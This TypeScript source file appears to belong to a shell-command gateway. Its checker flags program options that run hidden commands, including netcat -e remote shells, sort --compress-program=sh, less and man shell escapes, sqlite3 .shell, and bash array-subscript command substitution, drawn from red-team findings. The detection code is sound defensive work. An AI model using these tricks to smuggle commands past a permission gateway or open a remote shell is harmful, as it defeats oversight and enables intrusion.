/**
 * Options and arguments of everyday programs that run commands the gateway cannot see (red-team
 * findings, issue 14). Each makes the command `unknown` (refused wherever a deny or approve rule
 * could have matched):
 * - `nc -e PROG`/`-c CMD` (traditional netcat) runs a program for the connection;
 * - `zip -T -TT CMD` / `--unzip-command CMD` runs CMD through the shell to test the archive;
 * - `man -P/--pager CMD`, `man -H/--html=BROWSER`, `man --preprocessor` run CMD;
 * - `less +CMD`/`-k` and `more +CMD` run less commands (`!cmd` is a shell escape) at start;
 * - `sqlite3` runs commands (`.shell`, `.system`) and writes any file (ATTACH, VACUUM INTO): always;
 * - bash builtins that take a variable name evaluate an array subscript in it, which runs command
 *   substitutions: `test -v 'a[$(cmd)]'`, `printf -v 'a[$(cmd)]'`, `declare -n r='a[$(cmd)]'`,
 *   `read 'a[$(cmd)]'`, `unset 'a[$(cmd)]'`.
 */
import type { ShellWord } from "./types.ts";

/** A word that names a bash array element whose subscript expands something (`a[$(…)]`, a[`…`]). */
const SUBSCRIPT_CODE = /[A-Za-z_][A-Za-z0-9_]*\[[^\]]*[$`]/;
/** Builtins whose operands are variable names. */
const NAME_BUILTINS = new Set(["read", "unset", "declare", "typeset", "local", "export", "readonly", "wait", "mapfile", "readarray", "getopts"]);

export function hiddenCodeIn(name: string, args: ShellWord[]): string | null {
  const words = args.map((a) => a.value);
  const names = (ws: ShellWord[]) => ws.some((a) => SUBSCRIPT_CODE.test(a.value) || (a.dynamic && !a.value.startsWith("-")));
  const namesCode =
    (NAME_BUILTINS.has(name) && names(args)) ||
    ((name === "test" || name === "[" || name === "[[") && words.some((w) => w === "-v" || w === "-R") && names(args.filter((a) => a.value !== "]" && a.value !== "]]"))) ||
    (name === "printf" && args.some((a, i) => /^-[A-Za-z]*v$/.test(a.value) && args[i + 1] && names([args[i + 1]!])));
  if (namesCode) return `${name} evaluates the array subscript in a variable name (a[$(…)] runs commands)`;
  switch (name) {
    case "nc":
    case "netcat":
    case "nc.traditional":
    case "nc.openbsd":
      // Traditional netcat runs a program per connection (`nc -e /bin/sh host port`: a remote shell).
      if (args.some((a) => a.dynamic || /^-[A-Za-z]*[ec]/.test(a.value))) return `${name} -e/-c runs a program for the connection`;
      return null;
    case "rsync":
      // To or from another host (`host:path`, `rsync://`), rsync runs ssh or talks to a daemon: what happens there is not visible.
      if (args.some((a) => !a.value.startsWith("-") && (/^[^/=]*[^\\/]:/.test(a.value) || a.value.startsWith("rsync://")) && !args.some((x) => x.value === "--server"))) return "rsync to or from another host runs ssh there";
      return null;
    case "zip":
      if (words.some((w) => /^(-TT|--unzip-command)/.test(w) || /^-[A-Za-z]*TT/.test(w))) return "zip -TT runs a command to test the archive";
      return null;
    case "man":
      if (words.some((w) => /^(-[A-Za-z]*[PHp]|--pager|--html|--preprocessor|--config-file|-C)/.test(w))) return "man with a pager, browser or preprocessor runs that program";
      return null;
    case "less":
    case "more":
      if (words.some((w) => w.startsWith("+") || /^(-[A-Za-z]*k|--lesskey)/.test(w))) return `${name} with start-up commands can run a shell`;
      return null;
    case "sort": {
      // --compress-program=PROG (any unique prefix from --co) runs PROG on the data being sorted:
      // `sort -S 1K --compress-program=sh` feeds the input lines to a shell. A word that may expand
      // to an option may be it.
      if (longOptionIn(args, "compress-program", 2)) return "sort --compress-program runs a program on the data it sorts";
      return null;
    }
    case "install":
      // --strip-program=PROG runs PROG on each installed file (`--strip-program=sh` runs it as a script).
      if (longOptionIn(args, "strip-program", 6)) return "install --strip-program runs a program on the installed files";
      return null;
    case "sdiff":
    case "diff3":
      // --diff-program=PROG runs PROG; sdiff -o merges interactively, reading its commands (and
      // what it writes) from standard input.
      if (longOptionIn(args, "diff-program", 1)) return `${name} --diff-program runs a program`;
      if (name === "sdiff" && args.some((a) => /^-[A-Za-z]*o/.test(a.value) || isLongPrefix(a.value, "output", 3))) return "sdiff -o reads its merge commands from standard input and writes what they choose";
      return null;
    case "sqlite3":
      // `.shell`/`.system` run commands, ATTACH/VACUUM INTO/.output write any file, SQL may come from stdin.
      return "sqlite3 can run commands (.shell, .system) and write any file (ATTACH, VACUUM INTO, .output)";
  }
  return null;
}

/** `--NAME` (`isLongPrefix`) among the arguments, or a word starting with an expansion that may be it. */
function longOptionIn(args: ShellWord[], name: string, min: number): boolean {
  return args.some((a) => (a.dynamic && /^[$`]/.test(a.value)) || isLongPrefix(a.value, name, min));
}

/** `--NAME[=value]` written as a GNU getopt_long unique prefix of NAME, at least `min` characters long. */
function isLongPrefix(word: string, name: string, min: number): boolean {
  if (!word.startsWith("--")) return false;
  const key = word.slice(2).split("=")[0]!;
  return key.length >= min && name.startsWith(key);
}
